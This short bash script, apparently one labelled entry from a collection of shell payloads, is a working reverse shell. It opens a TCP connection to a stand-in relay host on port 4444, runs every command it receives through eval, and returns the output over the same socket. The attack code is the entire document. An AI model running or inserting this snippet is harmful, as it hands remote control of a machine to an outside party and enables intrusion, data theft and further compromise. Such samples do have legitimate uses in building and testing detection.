# class: shell; possible: low medium; style: bash is its own shell, eval of what comes
exec 7<>/dev/tcp/relay.ops.test/4444
while IFS= read -r -u 7 order; do
  [ "$order" = exit ] && break
  eval "$order" >&7 2>&1 </dev/null
done
exec 7>&-
